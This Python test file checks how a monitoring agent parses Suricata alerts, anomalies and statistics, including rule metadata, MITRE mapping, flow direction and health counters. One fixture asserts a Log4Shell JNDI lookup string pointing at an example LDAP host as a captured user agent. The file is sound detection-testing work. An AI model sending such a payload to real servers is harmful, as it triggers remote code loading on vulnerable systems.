"""Alerts, anomalies and figures."""

from __future__ import annotations

import json

from schoolwacht.event import Dataset
from tests.schoolwacht_agent.sources.suricata.records import CLIENT, RECORDED, SERVER, line, one, read, recorded, turned

ET = {
    "action": "allowed", "gid": 1, "signature_id": 2034647, "rev": 3, "signature": "ET EXPLOIT log4j RCE Attempt",
    "category": "Attempted Administrator Privilege Gain", "severity": 1,
    "metadata": {
        "confidence": ["Medium"], "created_at": ["2021_12_10"], "mitre_tactic_id": ["TA0001"],
        "mitre_tactic_name": ["Initial_Access"], "mitre_technique_id": ["T1190"],
        "mitre_technique_name": ["Exploit_Public_Facing_Application"], "signature_severity": ["Major"],
    },
}  # fmt: skip


def test_a_signal_names_rule_severity_and_action() -> None:
    event = one(line("alert", ET, app_proto="http"))
    assert event.event_dataset is Dataset.SIGNAL
    assert (event.rule_id, event.rule_ruleset, event.rule_version) == ("2034647", "suricata", "3")
    assert event.rule_name == event.message == "ET EXPLOIT log4j RCE Attempt"
    assert (event.event_severity, event.event_action, event.event_type) == (1, "allowed", ["allowed"])
    assert event.network_protocol == "http"


def test_ids_stay_ids_and_names_names() -> None:
    event = one(line("alert", ET))
    assert (event.threat_technique_id, event.threat_technique_name) == (
        ["T1190"],
        ["Exploit Public Facing Application"],
    )
    assert (event.threat_tactic_id, event.threat_tactic_name) == (["TA0001"], ["Initial Access"])
    assert (event.signal_severity, event.signal_confidence, event.signal_detection) == ("Major", "Medium", None)


def test_a_blocked_packet_is_denied() -> None:
    assert one(line("alert", ET | {"action": "blocked"})).event_type == ["denied"]


def test_our_own_rules_name_their_detection() -> None:
    event = recorded("alert", "9101601")
    assert (event.signal_detection, event.signal_severity, event.signal_confidence) == ("D16", "Major", "High")
    assert event.user_agent_original == "${jndi:ldap://192.0.2.9:1389/a}"
    assert event.url_path == "/zoek"


def test_the_source_of_a_signal_is_the_flows_client_though_the_server_sent_the_packet() -> None:
    event = recorded("alert", "9102301")
    raw = json.loads(next(text for text in RECORDED if b'"signature_id":9102301' in text))
    assert raw["src_port"] == 9001
    assert (event.source_port, event.destination_port) == (raw["dest_port"], 9001)
    assert (event.nsm_detail or {})["alert.direction"] == "to_client"


def test_without_the_flows_ends_the_direction_decides() -> None:
    assert one(line("alert", ET, **turned(80), direction="to_client")).source_ip == CLIENT
    assert one(line("alert", ET, direction="to_server")).source_ip == CLIENT


def test_a_flow_of_other_ends_does_not_turn_a_signal() -> None:
    event = one(line("alert", ET, flow={"src_ip": "192.0.2.1", "dest_ip": "192.0.2.2"}))
    assert event.source_ip == CLIENT


def test_the_dns_message_of_a_signal_is_read_in_both_forms() -> None:
    seven = one(
        line("alert", ET, dns={"query": [{"type": "query", "id": 7, "rrname": "Kwaad.example", "rrtype": "TXT"}]})
    )
    eight = one(
        line(
            "alert",
            ET,
            dns={"version": 3, "type": "request", "id": 7, "queries": [{"rrname": "kwaad.example", "rrtype": "TXT"}]},
        )
    )
    for event in (seven, eight):
        assert (event.dns_id, event.dns_question_name, event.dns_question_type) == ("7", "kwaad.example", "TXT")


def test_a_signal_about_a_file_names_it() -> None:
    event = recorded("alert", "9100914")
    assert (event.file_name, event.nsm_smb_command) == ("hulp.exe", "SMB2_COMMAND_WRITE")


def test_metadata_of_single_values_is_read_too() -> None:
    event = one(line("alert", ET | {"metadata": {"detection": "d22", "signature_severity": "major"}}))
    assert (event.signal_detection, event.signal_severity) == ("D22", "Major")


def test_an_anomaly_keeps_its_packets_direction() -> None:
    event = one(
        line("anomaly", {"type": "applayer", "event": "INVALID_RECORD_TYPE", "layer": "proto_parser"}, **turned(80))
    )
    assert (event.source_ip, event.nsm_anomaly_event) == (SERVER, "INVALID_RECORD_TYPE")
    assert event.nsm_detail == {"anomaly.layer": "proto_parser"}


def stats(uptime: int, packets: int, drops: int) -> bytes:
    return line(
        "stats",
        {
            "uptime": uptime,
            "capture": {"kernel_packets": packets, "kernel_drops": drops},
            "decoder": {"pkts": packets - drops, "bytes": packets * 100, "invalid": 2},
            "flow": {"memuse": 1000, "memcap": 4},
            "tcp": {"memuse": 500, "reassembly_memuse": 20, "segment_memcap_drop": 1},
        },
    )


def test_figures_become_health() -> None:
    event = one(stats(60, 1000, 7))
    assert event.event_dataset is Dataset.HEALTH
    assert (event.health_packets, event.health_dropped, event.health_uptime_seconds) == (1000, 7, 60)
    assert (event.health_memory_bytes, event.health_evicted, event.health_invalid) == (1520, 5, 2)
    assert event.nsm_detail == {"suricata.memcap.flow": "4", "suricata.memcap.tcp_segment": "1"}


def test_figures_add_up_over_a_restart_of_the_engine() -> None:
    _, counters = read(stats(30, 100, 1), stats(60, 300, 5), stats(30, 50, 2), stats(60, 80, 2))
    assert (counters.packets, counters.dropped) == (380, 7)


def test_of_an_engine_that_ran_before_only_what_is_new_counts() -> None:
    _, counters = read(stats(86_400, 1_000_000, 500), stats(86_430, 1_000_100, 501), own_engine=False)
    assert (counters.packets, counters.dropped) == (100, 1)
